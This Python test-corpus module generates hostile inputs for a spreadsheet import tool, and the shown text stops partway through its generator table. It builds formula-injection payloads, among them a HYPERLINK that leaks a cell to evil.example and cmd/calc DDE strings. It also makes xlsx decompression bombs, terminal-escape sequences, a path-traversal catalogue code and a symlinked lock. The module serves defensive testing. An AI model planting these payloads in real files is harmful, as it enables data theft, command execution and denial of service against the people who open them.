"""The corpus of sheets as departments send them, and hostile ones (issue 13).

Each case is named in tests/corpus/sheet_expectations.toml, which says what to run and what must
come of it. The file a case runs on is either committed under tests/corpus/sheets/ (small text
and the .xls/.ods samples) or made here, on demand, by the generator of the same name: large
files are never committed, and binary .xlsx files are made so that their bytes are plain to read
in this module.

    from corpus import sheet_cases
    case = sheet_cases.load()["csv-thousands-unquoted"]
    work = sheet_cases.prepare(case, tmp_path)   # data folder, the file, placeholders filled in
    for run in case.runs: ...                    # work.argv(run), run.exit, run.code, run.line ...

A generator gets `(path, data)`: the path its file must have and the data folder of the case
(already a copy of the shipped data or the bare catalogue, per the case's `data`), which a few
cases change (a symlinked lock, a read-only report, a hostile catalogue). It raises Unavailable
when this machine cannot make it (a device node needs root).

This module only makes files; tests/test_sheet_corpus.py checks that the corpus is well formed.
The behavioural test that runs every case through `dehong` belongs to the issue's implementation.
Run `python tests/corpus/sheet_cases.py OUT_DIR` to write every generated file into OUT_DIR.
"""

from __future__ import annotations

import json
import os
import shlex
import shutil
import stat
import struct
import sys
import tomllib
import zlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, BinaryIO
from xml.sax.saxutils import escape

CORPUS = Path(__file__).resolve().parent
SHEETS = CORPUS / "sheets"
EXPECTATIONS = CORPUS / "sheet_expectations.toml"
ROOT = CORPUS.parent.parent
SHIPPED = ROOT / "data"

KIB = 1024
MIB = 1024 * 1024
MAX_SOURCE_BYTES = 20 * MIB  # importer.MAX_SOURCE_BYTES, as the README states it
MAX_REPORT_BYTES = 5 * MIB  # store.MAX_FILE_BYTES


class Unavailable(Exception):
    """This machine cannot make the case (no root for a device node, no xlwt for an .xls)."""


# ------------------------------------------------------------------------------ expectations

RUN_FIELDS = {
    "args",  # the command after `dehong`, shlex-split; {file} {data} {work} are filled in
    "stdin",  # true: the case's file is fed on standard input
    "exit",  # 0 ok, 1 refused, 2 usage
    "code",  # error[code] that must appear (refused runs)
    "line",  # FILE:LINE:… of that error: the row of a sheet, the line of a text file
    "col",  # …:COL: the 1-based column of the cell (or character in a line)
    "cell",  # an .xlsx cell the message must name, e.g. Sheet1!C6
    "message",  # words the output must contain
    "absent",  # words (or escapes, such as \u001b) the output must not contain
    "stored",  # {"2019.yaml": {"makers_trained": 1234}}: values in the reports after the run
    "not_stored",  # {"2019.yaml": ["makers_trained"]}: fields that must not be in the report
    "unchanged",  # true: every file of the data folder is byte-identical after the run
    "not_created",  # paths (with placeholders) that must not exist after the run
    "output",  # a path written by the run (export --output), checked by the fields below
    "output_text",  # exact texts that must appear as cells of `output` (CSV or .xlsx)
    "output_no_formula",  # true: no cell of the .xlsx `output` is a formula
    "still",  # "char-device": the `file` is still that kind of node after the run
    "strict_json",  # true: stdout parses with json.loads refusing NaN and Infinity
    "max_seconds",  # the run must end within this (wall clock, a subprocess)
    "max_mib",  # and stay under this peak RSS
}
CASE_FIELDS = {"file", "data", "place", "reason", "today", "size", "bullet", "run"}
DATA_KINDS = {"empty", "shipped"}
PLACES = {"work", "reports", "catalogue"}
BULLETS = {"silent-loss", "injection", "exhaustion", "hang-traceback", "paths", "shapes", "kept-working"}


@dataclass(frozen=True)
class Run:
    args: str
    exit: int
    stdin: bool = False
    code: str | None = None
    line: int | None = None
    col: int | None = None
    cell: str | None = None
    message: str | None = None
    absent: str | None = None
    stored: dict[str, dict[str, Any]] = field(default_factory=dict)
    not_stored: dict[str, list[str]] = field(default_factory=dict)
    unchanged: bool = False
    not_created: list[str] = field(default_factory=list)
    output: str | None = None
    output_text: list[str] = field(default_factory=list)
    output_no_formula: bool = False
    still: str | None = None
    strict_json: bool = False
    max_seconds: float | None = None
    max_mib: int | None = None


@dataclass(frozen=True)
class Case:
    name: str
    file: str
    data: str  # "empty": the shipped catalogue, no reports; "shipped": a copy of data/
    place: str  # "work": WORK/file; "reports": DATA/reports/file; "catalogue": DATA/targets.yaml
    reason: str
    today: str  # what dehong does with it now (measured on main before issue 13)
    bullet: str
    runs: tuple[Run, ...]
    size: tuple[int, int] | None = None  # [min, max] bytes of the made file, for large cases

    @property
    def committed(self) -> Path | None:
        path = SHEETS / self.file
        return path if path.is_file() else None


def load() -> dict[str, Case]:
    table = tomllib.loads(EXPECTATIONS.read_text(encoding="utf-8"))
    cases: dict[str, Case] = {}
    for name, fields in table.items():
        unknown = set(fields) - CASE_FIELDS
        if unknown:
            raise ValueError(f"{name}: unknown fields {sorted(unknown)}")
        runs = []
        for run in fields["run"]:
            bad = set(run) - RUN_FIELDS
            if bad:
                raise ValueError(f"{name}: unknown run fields {sorted(bad)}")
            runs.append(Run(**run))
        size = fields.get("size")
        cases[name] = Case(
            name=name,
            file=fields["file"],
            data=fields.get("data", "empty"),
            place=fields.get("place", "work"),
            reason=fields["reason"],
            today=fields["today"],
            bullet=fields["bullet"],
            runs=tuple(runs),
            size=(int(size[0]), int(size[1])) if size else None,
        )
    return cases


@dataclass(frozen=True)
class Work:
    """A prepared case: its work folder, data folder and file."""

    root: Path
    data: Path
    file: Path

    def fill(self, text: str) -> str:
        return text.format(file=self.file, data=self.data, work=self.root)

    def argv(self, run: Run) -> list[str]:
        """`dehong` arguments of a run; --data-dir is added unless the run names it."""
        argv = [self.fill(a) for a in shlex.split(run.args)]
        if "--data-dir" not in argv:
            argv += ["--data-dir", str(self.data)]
        return argv


def prepare(case: Case, root: Path) -> Work:
    """Lay out ROOT/data (per case.data) and the case's file; return where they are."""
    data = root / "data"
    if case.data == "shipped":
        shutil.copytree(SHIPPED, data)
    else:
        (data / "reports").mkdir(parents=True)
        shutil.copy(SHIPPED / "targets.yaml", data / "targets.yaml")
    if case.place == "reports":
        path = data / "reports" / case.file
    elif case.place == "catalogue":
        path = data / "targets.yaml"
    else:
        path = root / case.file
    if case.committed is not None:
        shutil.copyfile(case.committed, path)
    else:
        GENERATORS[case.name](path, data)
    return Work(root, data, path)


# ------------------------------------------------------------------------------- checking


@dataclass(frozen=True)
class Outcome:
    """What one run did: its exit code, its output (stdout + stderr), and the stdout alone."""

    exit: int
    output: str
    stdout: str


def _strict_json(text: str) -> object:
    def refuse(token: str) -> object:
        raise ValueError(f"not JSON: {token}")

    return json.loads(text, parse_constant=refuse)


def located(output: str, shown: str, run: Run) -> list[str]:
    """The lines `SHOWN:LINE:COL: error[code]: …` that the run expects (any line when line is None)."""
    lines = [line for line in output.splitlines() if f"error[{run.code}]" in line]
    if run.line is not None:
        where = f"{shown}:{run.line}:" + (f"{run.col}:" if run.col is not None else "")
        lines = [line for line in lines if line.startswith(where)]
    return lines


def stored_value(report: Path, dotted: str) -> object:
    """`values.makers_trained` of a report; a {value: …} mapping gives its value unless asked deeper."""
    import yaml

    node: object = yaml.safe_load(report.read_text(encoding="utf-8"))
    for part in dotted.split("."):
        if not isinstance(node, dict) or part not in node:
            return KeyError(dotted)
        node = node[part]
    if isinstance(node, dict) and "value" in node:
        return node["value"]
    return node


def check(work: Work, run: Run, outcome: Outcome, before: dict[str, bytes] | None = None) -> list[str]:
    """Every way `outcome` differs from what `run` expects (empty when it is right)."""
    problems: list[str] = []
    out = outcome.output
    if "Traceback" in out:
        problems.append("a traceback")
    if outcome.exit != run.exit:
        problems.append(f"exit {outcome.exit}, expected {run.exit}")
    if run.code and not located(out, str(work.file), run):
        where = f" at {run.line}:{run.col}" if run.line else ""
        problems.append(f"no error[{run.code}]{where}")
    for words, present in ((run.message, True), (run.cell, True), (run.absent, False)):
        if words is not None and (words in out) != present:
            problems.append(f"{'missing' if present else 'unwanted'} {words!r}")
    for name, fields in run.stored.items():
        report = work.data / "reports" / name
        for dotted, want in fields.items():
            got = stored_value(report, dotted) if report.is_file() else FileNotFoundError(name)
            if got != want or type(got) is bool:
                problems.append(f"{name} {dotted} = {got!r}, expected {want!r}")
    for name, dotted_list in run.not_stored.items():
        report = work.data / "reports" / name
        for dotted in dotted_list:
            if report.is_file() and not isinstance(stored_value(report, dotted), KeyError):
                problems.append(f"{name} has {dotted}")
    if run.unchanged and before is not None and snapshot(work.data) != before:
        problems.append("the data folder changed")
    for path in run.not_created:
        if os.path.lexists(work.fill(path)):
            problems.append(f"{work.fill(path)} was created")
    if run.output is not None:
        problems += _check_output(Path(work.fill(run.output)), run)
    if run.still == "char-device" and not (work.file.exists() and stat.S_ISCHR(work.file.stat().st_mode)):
        problems.append(f"{work.file} is no longer a character device")
    if run.strict_json:
        try:
            _strict_json(outcome.stdout)
        except ValueError as exc:
            problems.append(f"stdout is not strict JSON ({str(exc)[:60]})")
    return problems


def _check_output(path: Path, run: Run) -> list[str]:
    if not path.is_file():
        return [f"no output file {path}"]
    if path.suffix == ".xlsx":
        import openpyxl

        book = openpyxl.load_workbook(path)
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        texts = {str(c.value) for c in cells if c.value is not None}
        problems = (
            [f"a formula in {c.coordinate}" for c in cells if c.data_type == "f"]
            if run.output_no_formula
            else []
        )
    else:
        import csv
        import io

        text = path.read_bytes().decode("utf-8-sig")
        texts = {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
        problems = []
    problems += [f"{path.name} has no cell {want!r}" for want in run.output_text if want not in texts]
    return problems


def snapshot(folder: Path) -> dict[str, bytes]:
    """The bytes of every regular file under `folder` (symlinks and special files by what they are)."""
    found: dict[str, bytes] = {}
    for path in sorted(folder.rglob("*")):
        key = path.relative_to(folder).as_posix()
        if path.is_symlink():
            found[key] = b"-> " + os.readlink(path).encode()
        elif path.is_file():
            found[key] = path.read_bytes()
    return found


# ----------------------------------------------------------------------------- small helpers


def _text(text: str, encoding: str = "utf-8") -> Callable[[Path, Path], None]:
    return lambda path, data: path.write_bytes(text.encode(encoding))


def _raw(raw: bytes) -> Callable[[Path, Path], None]:
    return lambda path, data: path.write_bytes(raw)


def _openpyxl_book(
    sheets: list[tuple[str, list[list[Any]]]],
    hidden: Iterable[str] = (),
    percent: Iterable[tuple[str, str]] = (),
    merged: Iterable[tuple[str, str]] = (),
    dates: Iterable[tuple[str, str]] = (),
) -> Callable[[Path, Path], None]:
    """An ordinary workbook written by openpyxl (formulas written this way carry no saved value)."""

    def make(path: Path, data: Path) -> None:
        import openpyxl

        book = openpyxl.Workbook()
        book.remove(book.active)  # type: ignore[arg-type]
        for title, rows in sheets:
            sheet = book.create_sheet(title)
            for row in rows:
                sheet.append(row)
            if title in set(hidden):
                sheet.sheet_state = "hidden"
        for title, ref in percent:
            book[title][ref].number_format = "0.00%"
        for title, ref in dates:
            book[title][ref].number_format = "yyyy-mm-dd"
        for title, ref in merged:
            book[title].merge_cells(ref)
        book.save(path)

    return make


# ------------------------------------------------------------------- hand-made .xlsx (zip+XML)

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    "{sheets}"
    '<Override PartName="/xl/styles.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
    "{strings}"
    "</Types>"
)
_SHEET_TYPE = (
    '<Override PartName="/xl/worksheets/sheet{n}.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
)
_STRINGS_TYPE = (
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RNS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
# Two cell formats: 0 general, 1 the built-in percentage 0.00% (numFmtId 10)
_STYLES = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<styleSheet {_NS}>'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="10" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
    "</styleSheet>"
)


@dataclass
class XSheet:
    """One worksheet of a hand-made workbook: its XML body is streamed from `body` (bytes chunks)."""

    name: str
    body: Callable[[], Iterator[Chunk]]
    state: str = "visible"
    dimension: str | None = None


def sheet_xml(rows: Iterable[Chunk], dimension: str | None = None) -> Iterator[Chunk]:
    yield f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet {_NS}>'.encode()
    if dimension:
        yield f'<dimension ref="{dimension}"/>'.encode()
    yield b"<sheetData>"
    yield from rows
    yield b"</sheetData></worksheet>"


def _cell(ref: str, value: object, style: int = 0) -> str:
    """`value`: a str (inline string), a number, or ("f", formula, cached or None)."""
    s = f' s="{style}"' if style else ""
    if isinstance(value, tuple):
        _, formula, cached = value
        v = "" if cached is None else f"<v>{cached}</v>"
        return f'<c r="{ref}"{s}><f>{escape(formula)}</f>{v}</c>'
    if isinstance(value, str):
        return f'<c r="{ref}" t="inlineStr"{s}><is><t>{escape(value)}</t></is></c>'
    return f'<c r="{ref}"{s}><v>{value}</v></c>'


def small_rows(rows: list[list[object]], styles: dict[str, int] | None = None) -> Iterator[bytes]:
    styles = styles or {}
    for r, row in enumerate(rows, start=1):
        cells = []
        for c, value in enumerate(row):
            if value is None:
                continue
            ref = f"{chr(65 + c)}{r}"
            cells.append(_cell(ref, value, styles.get(ref, 0)))
        yield f'<row r="{r}">{"".join(cells)}</row>'.encode()


def write_xlsx(path: Path, sheets: list[XSheet], shared: Callable[[], Iterator[Chunk]] | None = None) -> None:
    """A minimal workbook: streamed part by part, so a sheet of millions of rows is never in memory."""
    overrides = "".join(_SHEET_TYPE.format(n=n) for n in range(1, len(sheets) + 1))
    entries = "".join(
        f'<sheet name="{escape(s.name)}" sheetId="{n}"'
        + (f' state="{s.state}"' if s.state != "visible" else "")
        + f' r:id="rId{n}"/>'
        for n, s in enumerate(sheets, start=1)
    )
    rels = "".join(
        f'<Relationship Id="rId{n}" Type="{_REL}/worksheet" Target="worksheets/sheet{n}.xml"/>'
        for n in range(1, len(sheets) + 1)
    )
    n_styles = len(sheets) + 1
    rels += f'<Relationship Id="rId{n_styles}" Type="{_REL}/styles" Target="styles.xml"/>'
    if shared is not None:
        rels += (
            f'<Relationship Id="rId{n_styles + 1}" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>'
        )
    types = _CONTENT_TYPES.format(sheets=overrides, strings=_STRINGS_TYPE if shared else "")
    members: list[tuple[str, Iterable[Chunk]]] = [
        ("[Content_Types].xml", [types.encode()]),
        ("_rels/.rels", [_ROOT_RELS.encode()]),
        (
            "xl/workbook.xml",
            [
                f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook {_NS} {_RNS}>'
                f"<sheets>{entries}</sheets></workbook>".encode()
            ],
        ),
        (
            "xl/_rels/workbook.xml.rels",
            [
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f"{rels}</Relationships>".encode()
            ],
        ),
        ("xl/styles.xml", [_STYLES.encode()]),
    ]
    members += [
        (f"xl/worksheets/sheet{n}.xml", sheet_xml(s.body(), s.dimension)) for n, s in enumerate(sheets, 1)
    ]
    if shared is not None:
        members.append(("xl/sharedStrings.xml", shared()))
    write_zip(path, members)


# A member's content: bytes, or (bytes, n) for those bytes n times over. A repeated block is
# deflated once (after a full flush the compressor's state is reset, so every copy compresses to
# the same bytes) and its output written n times: a 1.2 GB bomb is made in about a second.
Chunk = bytes | tuple[bytes, int]
_FULL = 1 << 20


def _deflate(chunks: Iterable[Chunk], out: BinaryIO) -> tuple[int, int, int]:
    """Raw deflate of the chunks into `out`; returns (crc32, uncompressed size, compressed size)."""
    crc = usize = csize = 0
    comp = zlib.compressobj(6, zlib.DEFLATED, -15)
    pending: list[bytes] = []
    pending_size = 0

    def emit(data: bytes) -> None:
        nonlocal csize
        out.write(data)
        csize += len(data)

    def drain() -> None:
        nonlocal pending, pending_size
        if pending:
            emit(comp.compress(b"".join(pending)))
            pending, pending_size = [], 0

    for chunk in chunks:
        if isinstance(chunk, tuple):
            block, times = chunk
            drain()
            emit(comp.flush(zlib.Z_FULL_FLUSH))
            once = comp.compress(block) + comp.flush(zlib.Z_FULL_FLUSH)
            for _ in range(times):
                emit(once)
                crc = zlib.crc32(block, crc)
            usize += len(block) * times
            continue
        pending.append(chunk)
        pending_size += len(chunk)
        crc = zlib.crc32(chunk, crc)
        usize += len(chunk)
        if pending_size > _FULL:
            drain()
    drain()
    emit(comp.flush(zlib.Z_FINISH))
    return crc, usize, csize


def write_zip(path: Path, members: Iterable[tuple[str, Iterable[Chunk]]]) -> None:
    """A zip of deflated members (no zip64: every member under 4 GiB), written in one pass."""
    central: list[bytes] = []
    dos_time, dos_date = 0, (2020 - 1980) << 9 | 1 << 5 | 1
    with path.open("w+b") as fh:
        for name, chunks in members:
            raw_name = name.encode()
            offset = fh.tell()
            fh.write(
                struct.pack(
                    "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, dos_time, dos_date, 0, 0, 0, len(raw_name), 0
                )
            )
            fh.write(raw_name)
            crc, usize, csize = _deflate(chunks, fh)
            if usize >= 1 << 32:
                raise ValueError(f"{name}: {usize} bytes needs zip64")
            end = fh.tell()
            fh.seek(offset + 14)
            fh.write(struct.pack("<III", crc, csize, usize))
            fh.seek(end)
            central.append(
                struct.pack(
                    "<IHHHHHHIIIHHHHHII",
                    0x02014B50, 20, 20, 0, 8, dos_time, dos_date, crc, csize, usize,
                    len(raw_name), 0, 0, 0, 0, 0, offset,
                )
                + raw_name
            )  # fmt: skip
        start = fh.tell()
        for entry in central:
            fh.write(entry)
        size = fh.tell() - start
        fh.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), size, start, 0))


def _xlsx(
    rows: list[list[object]], styles: dict[str, int] | None = None, name: str = "Sheet1"
) -> Callable[[Path, Path], None]:
    return lambda path, data: write_xlsx(path, [XSheet(name, lambda: small_rows(rows, styles))])


# ------------------------------------------------------------------------------- the bombs

EMPTY_ROWS = 200_000_000  # no r= attribute: each <row/> is the next row, past Excel's 1,048,576


def _empty_rows_bomb(path: Path, data: Path) -> None:
    """1.2 GB of <row/> (a header and one figure first) compressing to ~1.2 MB: one empty row each."""

    def body() -> Iterator[Chunk]:
        yield from small_rows([["指标", "数值"], ["培养创客", 1200]])
        yield (b"<row/>" * 100_000, EMPTY_ROWS // 100_000)

    write_xlsx(path, [XSheet("Sheet1", body, dimension="A1:B2")])


def _far_cell(path: Path, data: Path) -> None:
    """2 KB: a used range of the whole grid and one cell at its far corner."""

    def body() -> Iterator[Chunk]:
        yield from small_rows([["指标", "数值"], ["培养创客", 1200]])
        yield b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'

    write_xlsx(path, [XSheet("Sheet1", body, dimension="A1:XFD1048576")])


MILLION = 1_000_000


def _million_rows(path: Path, data: Path) -> None:
    """A real-looking long sheet of a million rows (shared strings, as Excel writes them)."""
    names = ["培养创客", "国家高新技术企业", "企业孵化器", "创新创业导师"]

    def strings() -> Iterator[Chunk]:
        yield f'<?xml version="1.0" encoding="UTF-8"?>\n<sst {_NS} count="6" uniqueCount="6">'.encode()
        for text in ["指标", "数值", *names]:
            yield f"<si><t>{text}</t></si>".encode()
        yield b"</sst>"

    def body() -> Iterator[Chunk]:
        yield b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
        for r in range(2, MILLION + 1):
            yield b'<row r="%d"><c r="A%d" t="s"><v>%d</v></c><c r="B%d"><v>%d</v></c></row>' % (
                r,
                r,
                2 + r % 4,
                r,
                r % 1000,
            )

    write_xlsx(path, [XSheet("Sheet1", body, dimension=f"A1:B{MILLION}")], shared=strings)


STRINGS_BOMB = 1_000_000


def _shared_strings_bomb(path: Path, data: Path) -> None:
    """A tiny sheet whose sharedStrings.xml inflates to ~316 MB (a million 100-character strings)."""
    text = "创" * 100

    def strings() -> Iterator[Chunk]:
        yield (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<sst {_NS} count="{STRINGS_BOMB + 2}" uniqueCount="{STRINGS_BOMB + 2}">'
            "<si><t>指标</t></si><si><t>数值</t></si>"
        ).encode()
        yield (f"<si><t>{text}</t></si>".encode() * 1000, STRINGS_BOMB // 1000)
        yield b"</sst>"

    def body() -> Iterator[Chunk]:
        yield b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
        yield f'<row r="2">{_cell("A2", "培养创客")}{_cell("B2", 1200)}</row>'.encode()

    write_xlsx(path, [XSheet("Sheet1", body, dimension="A1:B2")], shared=strings)


def _stdin_over_limit(path: Path, data: Path) -> None:
    """A CSV just over 20 MiB (valid rows repeated): the limit must hold on stdin as on a file."""
    row = "培养创客,1200,德宏州科技局,备注\r\n".encode()
    with path.open("wb") as fh:
        fh.write("指标,数值,来源,备注\r\n".encode())
        fh.write(row * ((MAX_SOURCE_BYTES + 64 * KIB) // len(row)))


REPORT_HEADER = "year: 2019\nprovenance: official\nsource: 德宏州科技局\n"


def _report_unknown_keys(path: Path, data: Path) -> None:
    """3.9 MB of misspelt indicator names: each one gets a 'did you mean' (15–25 s today)."""
    lines, size, i = [], len(REPORT_HEADER) + 8, 0
    while size < 3_900_000:
        line = f"  makers_trainee{i}: {i}\n"
        lines.append(line)
        size += len(line)
        i += 1
    path.write_text(REPORT_HEADER + "values:\n" + "".join(lines), encoding="utf-8")


def _report_many_nodes(path: Path, data: Path) -> None:
    """3.9 MB flow list of 1.3 million zeros: ~0.7–1.1 GB to compose as YAML nodes today."""
    path.write_text(
        REPORT_HEADER + "values:\n  makers_trained: [" + "0, " * 1_300_000 + "0]\n", encoding="utf-8"
    )


# ------------------------------------------------------------------------- special files


def _fifo(path: Path, data: Path) -> None:
    os.mkfifo(path)


def _fifo_catalogue(path: Path, data: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def _char_device(path: Path, data: Path) -> None:
    """A character device like /dev/null (1, 3), made in the work folder: needs root."""
    try:
        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    except PermissionError as exc:
        raise Unavailable("making a device node needs root") from exc


GOOD_CSV = "指标,数值,来源\n培养创客,1234,德宏州科技局\n"


def _lock_symlink(path: Path, data: Path) -> None:
    """A plain sheet; reports/.2019.yaml.lock is a symlink to a file that does not exist yet."""
    path.write_text(GOOD_CSV, encoding="utf-8")
    (data / "reports" / ".2019.yaml.lock").symlink_to(path.parent / "lock-victim.txt")


def _read_only_report(path: Path, data: Path) -> None:
    path.write_text(GOOD_CSV, encoding="utf-8")
    (data / "reports" / "2019.yaml").chmod(0o444)


def _hostile_region_code(path: Path, data: Path) -> None:
    """梁河县's code made 'x/../../../escaped': reports/2019-x/../../../escaped.yaml is WORK/escaped.yaml.

    A hostile repository can ship the folders the path goes through (reports/2019-x/ and
    reports/.2019-x/ for the lock), so nothing but a check of the code stops it.
    """
    text = (SHIPPED / "targets.yaml").read_text(encoding="utf-8")
    assert text.count("code: '533122'") == 1
    path.write_text(text.replace("code: '533122'", "code: 'x/../../../escaped'"), encoding="utf-8")
    (data / "reports" / "2019-x").mkdir()
    (data / "reports" / ".2019-x").mkdir()
    (data.parent / "sheet.csv").write_text(GOOD_CSV, encoding="utf-8")


def _cumulative(path: Path, data: Path) -> None:
    """2017–2019 cumulative makers (900 + 1100 + 1200); the 2019 report is not there yet."""
    (data / "reports" / "2019.yaml").unlink()
    (data / "reports" / "2019-533103.yaml").unlink()
    path.write_text("指标,2017—2019年累计完成\n培养创客,3200\n", encoding="utf-8")


def _extreme_ratio(path: Path, data: Path) -> None:
    """Components within ±1e15 whose ratio is not finite: 1e15 / 1e-320 overflows to inf. The shipped
    2019 report leaves both to its counties (the roll-up), so they are added, gdp at line 11."""
    text = (SHIPPED / "reports" / "2019.yaml").read_text(encoding="utf-8")
    old = "  fiscal_recurrent_revenue: "
    assert old in text
    path.write_text(text.replace(old, f"  rd_expenditure: 1e15\n  gdp: 1e-320\n{old}", 1), encoding="utf-8")


def _report_note(note_yaml: str) -> Callable[[Path, Path], None]:
    """The shipped 2019 report with a note (a YAML double-quoted scalar, escapes and all) on a figure."""

    def make(path: Path, data: Path) -> None:
        text = (SHIPPED / "reports" / "2019.yaml").read_text(encoding="utf-8")
        old = "  makers_trained: 1200 "
        assert old in text
        path.write_text(
            text.replace(old, f"  makers_trained: {{value: 1200, note: {note_yaml}}} "), encoding="utf-8"
        )

    return make


# ------------------------------------------------------------------------- .xls and .ods

XLS_ROWS: list[list[object]] = [
    ["德宏州科技局 2019年报表"],
    ["指标", "数值", "单位"],
    ["培养创客", 1234, "名"],
]


def _xls(path: Path, data: Path) -> None:
    """An Excel 97–2003 workbook (BIFF8) written by xlwt; committed as sheets/legacy.xls too."""
    try:
        import xlwt  # type: ignore[import-not-found, import-untyped, unused-ignore]
    except ImportError as exc:
        raise Unavailable(
            "xlwt (pip install xlwt) writes .xls; the committed sample is used instead"
        ) from exc
    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("Sheet1")
    for r, row in enumerate(XLS_ROWS):
        for c, value in enumerate(row):
            sheet.write(r, c, value)
    book.save(str(path))


def _ods(path: Path, data: Path) -> None:
    """An OpenDocument spreadsheet (WPS and LibreOffice save these) written by odfpy."""
    try:
        from odf.opendocument import OpenDocumentSpreadsheet  # type: ignore[import-not-found, import-untyped, unused-ignore]
        from odf.table import Table, TableCell, TableRow  # type: ignore[import-not-found, import-untyped, unused-ignore]
        from odf.text import P  # type: ignore[import-not-found, import-untyped, unused-ignore]
    except ImportError as exc:
        raise Unavailable(
            "odfpy (pip install odfpy) writes .ods; the committed sample is used instead"
        ) from exc
    doc = OpenDocumentSpreadsheet()
    table = Table(name="Sheet1")
    for row in XLS_ROWS:
        tr = TableRow()
        for value in row:
            if isinstance(value, str):
                tc = TableCell(valuetype="string")
            else:
                tc = TableCell(valuetype="float", value=value)
            tc.addElement(P(text=str(value)))
            tr.addElement(tc)
        table.addElement(tr)
    doc.spreadsheet.addElement(table)
    doc.save(str(path))


# ----------------------------------------------------------------------------- generators

FORMULA_SOURCE = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'
CMD_NOTE = "+cmd|' /C calc'!A0"
AT_NOTE = "@SUM(1+9)*cmd|' /C calc'!A0"

GENERATORS: dict[str, Callable[[Path, Path], None]] = {
    # silent data loss
    "csv-mixed-utf8-gbk": _raw(
        "指标,数值,备注\n国家高新技术企业,9,正常\n".encode() + "培养创客,1200,备注\n".encode("gbk")
    ),
    "csv-utf16-tab": _raw("指标\t数值\r\n培养创客\t1234\r\n".encode("utf-16")),
    "csv-utf16-odd-length": _raw("指标\t数值\r\n培养创客\t1234\r\n".encode("utf-16") + b"\n"),
    # formula injection (kept as generated: a committed '=' cell is one click from a live formula)
    "csv-formula-source": _text(
        f'指标,数值,来源\n培养创客,1234,"{FORMULA_SOURCE.replace(chr(34), chr(34) * 2)}"\n'
    ),
    "csv-formula-note-cmd": _text(f"指标,数值,备注\n培养创客,1234,{CMD_NOTE}\n"),
    "csv-formula-note-at": _text(f"指标,数值,备注\n培养创客,1234,{AT_NOTE}\n"),
    "csv-formula-note-minus-tab-cr": _text(
        '指标,数值,备注\n培养创客,1234,"-1+2"\n国家高新技术企业,9,"\t=1+2"\n企业孵化器,24,"\r=1+2"\n'
    ),
    # a text cell (as Excel saves one typed with a leading apostrophe), not a formula
    "xlsx-formula-note": _xlsx(
        [["指标", "数值", "备注"], ["培养创客", 1234, '=HYPERLINK("http://evil.example/")']]
    ),
    # resource exhaustion
    "xlsx-empty-rows-bomb": _empty_rows_bomb,
    "xlsx-dimension-xfd": _far_cell,
    "xlsx-million-rows": _million_rows,
    "xlsx-shared-strings-bomb": _shared_strings_bomb,
    "csv-stdin-over-limit": _stdin_over_limit,
    "report-unknown-keys-3.9mb": _report_unknown_keys,
    "report-many-nodes-3.9mb": _report_many_nodes,
    # hangs and tracebacks
    "fifo-report": _fifo,
    "fifo-catalogue": _fifo_catalogue,
    "fifo-sheet": _fifo,
    "report-note-control-character": _report_note('"bell\\a and \\x01"'),
    "report-note-terminal-escape": _report_note('"\\e]0;pwned\\a\\e[2J"'),
    "csv-note-terminal-escape": _text("指标,数值,备注\n培养创客,1234,\x1b[2J\x1b]0;pwned\x07\n"),
    "csv-indicator-terminal-escape": _text("指标,数值\n\x1b[31m培养创客,1234\n"),
    "report-extreme-ratio": _extreme_ratio,
    # files and paths
    "lock-symlink": _lock_symlink,
    "catalogue-region-traversal": _hostile_region_code,
